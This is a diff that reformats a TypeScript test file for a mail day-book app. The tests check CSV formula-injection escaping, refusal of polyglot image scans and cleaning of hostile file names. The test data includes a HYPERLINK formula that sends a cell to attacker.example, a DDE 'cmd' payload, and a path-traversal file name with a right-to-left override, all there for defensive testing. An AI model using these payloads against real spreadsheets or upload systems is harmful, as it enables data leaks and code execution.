@@ -41,9 +41,17 @@ describe('day book CSV: no cell can start a formula (OWASP CSV injection)', () =
   const hostile = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)', '＝1+1', '＋1', '－1', '＠A1'];
 
   it.each(hostile)('a sender named %j reaches the CSV as text', async (name) => {
-    await t.call('post.logIncoming', { receivedOn: '2026-11-24', sender: { ...sender, name }, kind: 'not-a-complaint', routedTo: '=Accounts', summary: '+Invoice' });
+    await t.call('post.logIncoming', {
+      receivedOn: '2026-11-24',
+      sender: { ...sender, name },
+      kind: 'not-a-complaint',
+      routedTo: '=Accounts',
+      summary: '+Invoice',
+    });
     const csv = await t.call('post.dayBook', { from: '2026-11-24', to: '2026-11-24', format: 'csv' });
-    const text = Buffer.from(csv.dataBase64, 'base64').toString('utf8').replace(/^\uFEFF/, '');
+    const text = Buffer.from(csv.dataBase64, 'base64')
+      .toString('utf8')
+      .replace(/^\uFEFF/, '');
     const lines = text.split('\r\n').length > 1 ? text.split('\r\n') : text.split('\n');
     const row = cellsOf(lines[1]!);
     expect(row[2]).toBe(`'${name}`);
@@ -54,12 +62,16 @@ describe('day book CSV: no cell can start a formula (OWASP CSV injection)', () =
   });
 
   it.each([['\tTab'], ['\rReturn'], ['=1'], ['-1'], ['@x'], ['+1'], ['＝1']])('%j is prefixed with a quote and quoted', (value) => {
-    const text = dayBookCsv(['A'], [[value]]).toString('utf8').replace(/^\uFEFF/, '');
+    const text = dayBookCsv(['A'], [[value]])
+      .toString('utf8')
+      .replace(/^\uFEFF/, '');
     expect(text.split('\n')[1]).toBe(`"'${value}"`);
   });
 
   it('ordinary cells are unchanged apart from quoting', () => {
-    const text = dayBookCsv(['Sender'], [['Margaret Hale'], ['O\'Brien, "Jr"']]).toString('utf8').replace(/^\uFEFF/, '');
+    const text = dayBookCsv(['Sender'], [['Margaret Hale'], ['O\'Brien, "Jr"']])
+      .toString('utf8')
+      .replace(/^\uFEFF/, '');
     expect(text.split('\n').slice(1, 3)).toEqual(['"Margaret Hale"', '"O\'Brien, ""Jr"""']);
   });
 });
@@ -89,7 +101,11 @@ describe('scans are checked as whole files: polyglots are refused', () => {
     ['a PNG with data after IEND', 'scan.png', Buffer.concat([PNG, zipArchive()])],
     ['a PNG with no IEND', 'scan.png', PNG.subarray(0, -12)],
     ['a TIFF with a ZIP archive appended', 'fax.tif', Buffer.concat([TIFF, zipArchive()])],
-    ['a PNG that carries a web page', 'scan.png', Buffer.concat([PNG.subarray(0, 33), Buffer.from([0, 0, 0, html.length]), Buffer.from('tEXt'), html, Buffer.alloc(4), PNG.subarray(33)])],
+    [
+      'a PNG that carries a web page',
+      'scan.png',
+      Buffer.concat([PNG.subarray(0, 33), Buffer.from([0, 0, 0, html.length]), Buffer.from('tEXt'), html, Buffer.alloc(4), PNG.subarray(33)]),
+    ],
   ])('%s is refused at the scan and nothing is saved', async (_label, name, data) => {
     const before = await storedCounts();
     const error = await t.fail('post.logIncoming', { ...newComplaint, scans: [scan(name, data)] });
@@ -154,7 +170,11 @@ describe('file names are cleaned where they are stored and where they are downlo
 
   it('a stored record with a hostile name (e.g. from another device) is downloaded under a clean name', async () => {
     const letter = await t.call('post.logIncoming', { ...newComplaint, scans: [scan('letter.pdf', PDF)] });
-    const files = (t.services.domain!.db as unknown as { collections: Record<string, { findOne(id: string): { exec(): Promise<{ incrementalPatch(patch: object): Promise<unknown> }> } }> }).collections['files']!;
+    const files = (
+      t.services.domain!.db as unknown as {
+        collections: Record<string, { findOne(id: string): { exec(): Promise<{ incrementalPatch(patch: object): Promise<unknown> }> } }>;
+      }
+    ).collections['files']!;
     await (await files.findOne(letter.files[0]!.id).exec()).incrementalPatch({ name: '../../\u202Egpj.exe\u0000' });
     expect((await t.call('post.file', { fileId: letter.files[0]!.id })).name).toBe('gpj.exe.pdf');
   });
